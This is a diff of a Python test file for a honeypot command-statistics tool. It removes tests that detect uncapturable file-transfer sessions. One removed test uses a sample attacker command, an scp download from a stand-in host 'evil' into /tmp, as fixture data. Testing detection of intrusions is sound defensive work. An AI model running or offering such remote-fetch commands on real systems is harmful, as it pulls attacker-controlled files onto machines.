@@ -5,7 +5,6 @@ from __future__ import annotations
 from repro.analysis.commands_stats import (
     command_visibility,
     first_command_word,
-    uncapturable_transfer_sessions,
 )
 from repro.honeypot.session import (
     CommandRecord,
@@ -70,16 +69,3 @@ class TestVisibility:
         assert visibility.unknown_fraction < 0.15
         unknown_names = {name for name, _ in visibility.top_unknown_commands}
         assert "lockr" in unknown_names or "dget" in unknown_names
-
-
-class TestUncapturable:
-    def test_detects_scp(self):
-        sessions = [
-            session([("scp evil:/x /tmp/x", False)]),
-            session([("uname -a", True)]),
-        ]
-        assert uncapturable_transfer_sessions(sessions) == 1
-
-    def test_word_boundary(self):
-        sessions = [session([("description of scpwhatever", True)])]
-        assert uncapturable_transfer_sessions(sessions) == 0
